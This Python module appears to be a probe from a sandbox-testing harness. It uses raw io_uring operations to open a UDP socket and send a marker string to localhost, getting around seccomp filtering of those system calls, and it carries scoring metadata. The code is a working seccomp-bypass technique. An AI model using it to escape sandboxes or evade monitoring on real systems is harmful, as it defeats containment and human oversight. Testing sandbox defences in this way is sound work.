"""The kernel works through a queue of orders in shared memory, past any filter of system calls."""

import ctypes
import socket
import struct

EARNS = "10"
STOPPED_BY = ("namespaces", "seccomp")
EVIDENCE = "heard"
NEEDS = "io_uring"


def attack():
    params = (ctypes.c_uint32 * 30)()
    ring = syscall("io_uring_setup", 4, params)
    mapped_ring = _map(ring, 0, 4096)
    orders = _map(ring, 0x10000000, 4096)
    tail, mask, array = (mapped_ring + params[10 + i] for i in (1, 2, 6))
    done_tail, done = mapped_ring + params[20 + 1], mapped_ring + params[20 + 5]

    def order(operation, descriptor, offset=0, address=0, length=0):
        """One order, and its result."""
        entry = struct.pack("<BBHiQQI36x", operation, 0, 0, descriptor, offset, address, length)
        number = ctypes.c_uint32.from_address(tail)
        slot = number.value & ctypes.c_uint32.from_address(mask).value
        ctypes.memmove(orders + 64 * slot, entry, 64)
        ctypes.c_uint32.from_address(array + 4 * slot).value = slot
        number.value += 1
        syscall("io_uring_enter", ring, 1, 1, 1, 0, 0)
        last = ctypes.c_uint32.from_address(done_tail).value - 1
        result = ctypes.c_int32.from_address(done + 16 * (last % (2 * 4)) + 8).value
        if result < 0:
            raise OSError(-result, "io_uring")
        return result

    address = struct.pack("<H", socket.AF_INET) + struct.pack("!H4s8x", UDP_PORT, bytes([127, 0, 0, 1]))
    where, what = ctypes.create_string_buffer(address), ctypes.create_string_buffer(MARK.encode())
    end = order(45, socket.AF_INET, offset=socket.SOCK_DGRAM)
    order(16, end, offset=len(address), address=ctypes.addressof(where))
    order(26, end, address=ctypes.addressof(what), length=len(MARK))


def _map(ring, offset, size):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)
    return libc.mmap(None, size, 3, 0x8001, ring, offset)
